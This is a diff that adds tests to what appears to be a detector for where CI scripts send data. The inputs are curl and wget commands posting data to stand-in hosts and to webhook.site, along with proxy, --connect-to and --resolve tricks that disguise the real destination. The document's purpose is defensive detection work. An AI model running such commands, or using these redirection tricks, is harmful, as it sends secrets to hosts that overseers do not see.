@@ -104,6 +104,22 @@ test.each([
   expect(foundIn(script, TOKEN)).toEqual([]);
 });
 
+test.each([
+  ["curl -d a https://api.github.com/x https://x.example", ["x.example ordinary 6"]],
+  ["curl -d a https://x.example y.example", ["x.example ordinary 6", "y.example ordinary 6"]],
+  [
+    "curl -d a https://x.example https://webhook.site/1",
+    ["x.example ordinary 6", "webhook.site catcher 6"],
+  ],
+  ["curl -d a https://api.github.com/x $URL", ["an unknown host ordinary 6"]],
+  ["wget --post-data=a https://api.github.com/x https://x.example", ["x.example ordinary 6"]],
+  ["curl -d a -x x.example:80 http://api.github.com/x", ["x.example ordinary 6"]],
+  ["curl -kd a --connect-to ::x.example:443 https://api.github.com/x", ["x.example ordinary 6"]],
+  ["curl -d a --resolve y.example:443:127.0.0.1 http://localhost/x", []],
+])("%s sends data to every host that it leads to", (script, found) => {
+  expect(foundIn(script)).toEqual(found);
+});
+
 test("a secret that is the address is no secret that is sent there", () => {
   const env = "        env: {HOOK: '${{ secrets.Hook }}'}\n";
   expect(foundIn('curl -d a "$HOOK"', env)).toEqual(["the host in secrets.HOOK ordinary 6"]);
